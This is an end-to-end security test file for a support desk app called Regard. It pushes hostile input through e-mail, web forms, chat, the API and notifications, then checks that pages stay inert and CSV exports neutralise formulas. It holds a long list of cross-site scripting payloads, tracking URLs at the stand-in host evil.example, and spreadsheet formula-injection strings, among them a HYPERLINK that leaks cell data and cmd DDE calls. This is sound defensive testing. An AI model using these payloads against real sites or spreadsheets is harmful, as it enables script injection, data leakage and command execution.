"""Hostile content through every way in (e-mail with its attachment names, web form, chat, the
REST API with its tags, organization names, notifications), rendered where people read it (the
agent's inbox and conversations, notifications, the customer directory and profiles, and the
customer portal) in a real browser: no script runs, no dialog opens, nothing is fetched from
anywhere but Regard. The CSV export of the same data downloads, never renders, and no cell in it
can start a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
from email.message import EmailMessage
from email.utils import make_msgid
from pathlib import Path

import pytest
from django.test import Client

from regard.accounts.notifications import notify
from regard.api.tokens import issue_token
from regard.channels.email.inbound import accept_email
from regard.channels.web.actions import Submission, receive_web_form
from regard.conversations.models import Conversation
from regard.customers.models import Customer, Organization
from regard.portal.actions import request_link
from regard.portal.tokens import link_token
from tests.conversations.test_sanitize import HOSTILE
from tests.factories import PASSWORD

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]
# Every payload that could run calls this; the page defines nothing by that name, so a run shows
# up as a dialog (alert) or a page error.
EXTRA = [
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
    "<img src=https://evil.example/pixel.gif>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "{{ 7*7 }} {% debug %} ${alert(1)}",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<style>*{background:url('https://evil.example/bg.png')}</style>",
    '<div style="background-image:url(https://evil.example/bg.png)">x</div>',
    "<table background=https://evil.example/t.png><tr><td>x</td></tr></table>",
    '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<select><noembed></select><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    # Spreadsheet formulas, for the CSV export.
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
# Where a notification may point: only paths inside Regard become links.
HOSTILE_LINKS = ["javascript:alert(1)", "//evil.example/x", "https://evil.example/", "/ok/"]
PAYLOADS = HOSTILE + EXTRA
ORIGIN = "https://shop.example"
URL_ATTRIBUTES = ["href", "src", "action", "formaction"]


def _mail(payload: str, n: int) -> bytes:
    mail = EmailMessage()
    mail["From"] = f"Hostile {n} <hostile{n}@example.com>"
    mail["To"] = "support@localhost"
    mail["Subject"] = " ".join(payload.split())[:200]
    mail["Message-ID"] = make_msgid(domain="example.com")
    mail.set_content(f"Plain part {n}: {payload}")
    mail.add_alternative(f"<html><body><p>HTML part {n}</p>{payload}</body></html>", "html")
    filename = " ".join(payload.split())[:120] or "x"
    mail.add_attachment(f"file {n}".encode(), "application", "octet-stream", filename=filename)
    return bytes(mail)


@pytest.fixture
def hostile_desk(settings, agent):
    """The payloads as e-mail (subject, HTML and text), as web-form name and message from one
    customer, and as chat name and message; an agent's reply quotes one."""
    settings.EMBED_ORIGINS = [ORIGIN]
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    chat = Client()
    for n, payload in enumerate(PAYLOADS):
        accept_email(_mail(payload, n), source="test", process="now")
        receive_web_form(
            Submission(email="maya@example.com", name=payload[:100], text=f"Form {n}: {payload}")
        )
        started = chat.post(
            "/chat/start",
            json.dumps({"name": payload[:100]}),
            content_type="application/json",
            headers={"Origin": ORIGIN},
        ).json()
        chat.post(
            "/chat/messages",
            json.dumps({"text": f"Chat {n}: {payload}"}),
            content_type="application/json",
            headers={
                "Origin": "https://shop.example",
                "Authorization": f"Bearer {started['token']}",
            },
        )
    token = issue_token(agent.user, agent, "tests").secret
    api = Client(headers={"Authorization": f"Bearer {token}"})
    for n, payload in enumerate(PAYLOADS):
        made = api.post(
            "/api/v1/conversations",
            {"email": f"api{n}@example.com", "name": payload[:200], "text": f"API {n}: {payload}"},
            content_type="application/json",
        )
        assert made.status_code == 201, made.content
        tagged = api.patch(
            f"/api/v1/conversations/{made.json()['id']}",
            {"tags": [payload[:64], "plain"]},
            content_type="application/json",
        )
        assert tagged.status_code == 200, tagged.content
        organization = Organization.objects.create(name=payload[:200])
        Customer.objects.filter(identities__value=f"hostile{n}@example.com").update(
            organization=organization
        )
        notify(
            agent,
            "survey_follow_up",
            f"{payload[:300]} answered 2: please call or write to them.",
            key=f"hostile:{n}",
            url=HOSTILE_LINKS[n % len(HOSTILE_LINKS)],
        )
    from regard.conversations.actions import send_reply

    web = Conversation.objects.filter(channel="web").first()
    send_reply(agent.user, web, f"You wrote: {PAYLOADS[1]}")
    return Conversation.objects.order_by("pk")


@pytest.fixture
def watched(chromium, live_server):
    """A page that records dialogs, script errors and any request that leaves Regard."""
    context = chromium.new_context(viewport={"width": 1280, "height": 900})
    context.route("**/stream*", lambda route: route.abort())  # live updates are not on trial
    page = context.new_page()
    page.trouble = []
    page.on("dialog", lambda d: (page.trouble.append(f"dialog: {d.message}"), d.dismiss()))
    page.on("pageerror", lambda e: page.trouble.append(f"error: {e}"))
    page.on(
        "request",
        lambda r: (
            r.url.startswith(live_server.url)
            or r.url.startswith("data:")
            or page.trouble.append(f"request: {r.url}")
        ),
    )
    yield page
    context.close()


def sign_in(page, live_server, agent) -> None:
    page.goto(live_server.url + "/login/")
    page.get_by_label("Login").fill(agent.user.username)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(live_server.url + "/")


def inert(page) -> list[str]:
    """Scripts and event handlers in the page that Regard did not write."""
    return page.evaluate(
        """(urlAttributes) => {
        const found = [];
        for (const el of document.querySelectorAll('main *')) {
          if (el.tagName === 'SCRIPT') found.push('script in main');
          for (const a of el.attributes) {
            if (a.name.startsWith('on')) found.push(el.tagName + ' ' + a.name);
            const risky = /^\\s*(javascript|vbscript|data):/i.test(a.value);
            if (risky && urlAttributes.includes(a.name))
              found.push(el.tagName + ' ' + a.name + '=' + a.value.slice(0, 30));
          }
        }
        return found;
      }""",
        URL_ATTRIBUTES,
    )


def test_hostile_content_stays_inert_for_agents(watched, live_server, hostile_desk, agent):
    page = watched
    sign_in(page, live_server, agent)
    found = []
    pages = ["/", "/notifications/", "/?view=team", "/?view=unassigned", "/customers/"]
    for path in [*pages, "/search?q=alert", "/?tag=plain", "/api-tokens/"]:
        page.goto(live_server.url + path)
        found += inert(page)
    for conversation in hostile_desk:
        page.goto(f"{live_server.url}/conversations/{conversation.pk}/")
        found += inert(page)
    with_organization = Customer.objects.filter(organization__isnull=False).order_by("pk")
    for customer in [*with_organization[::4], hostile_desk.last().customer]:
        page.goto(f"{live_server.url}/customers/{customer.pk}/")
        found += inert(page)
    assert hostile_desk.count() >= 4 * len(PAYLOADS)
    page.goto(live_server.url + "/notifications/")
    links = page.locator("main a").evaluate_all("(links) => links.map((a) => a.href)")
    assert all(link.startswith(live_server.url) for link in links), links
    assert "evil.example" not in " ".join(links)
    assert "alert(1)" in page.locator("main").inner_text()  # shown, as text
    assert found == [] and page.trouble == [], found + page.trouble
    # The checks themselves can see what they look for.
    page.evaluate(
        "document.querySelector('main').insertAdjacentHTML("
        "'beforeend', '<a href=\"javascript:void(0)\" onclick=\"x\">x</a>')"
    )
    page.evaluate("alert('planted')")
    assert len(inert(page)) == 2 and page.trouble == ["dialog: planted"]


def test_hostile_content_stays_inert_in_the_portal(watched, live_server, hostile_desk):
    page = watched
    link = request_link("maya@example.com")
    page.goto(f"{live_server.url}/portal/in/{link_token(link)}/")
    page.get_by_role("button", name="Sign in").click()
    page.get_by_role("heading", name="Hello").first.wait_for()
    found = inert(page)
    for conversation in hostile_desk.filter(channel="web"):
        page.goto(f"{live_server.url}/portal/conversations/{conversation.pk}/")
        found += inert(page)
    assert found == [] and page.trouble == [], found + page.trouble


def test_hostile_directory_exports_as_inert_csv(watched, live_server, hostile_desk, admin_agent):
    page = watched
    sign_in(page, live_server, admin_agent)
    page.goto(live_server.url + "/customers/")
    with page.expect_download() as download:  # the browser saves it; it never renders it
        page.evaluate("location.href = '/customers/export.csv'")
    text = Path(download.value.path()).read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) > 3 * len(PAYLOADS)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=HYPERLINK(" in text and "'+cmd" in text and "'@SUM" in text  # kept, as text
    organizations = {row[3] for row in rows[1:]}
    assert len(organizations & set(PAYLOADS)) > len(PAYLOADS) // 2  # hostile names were there
    assert page.trouble == [], page.trouble
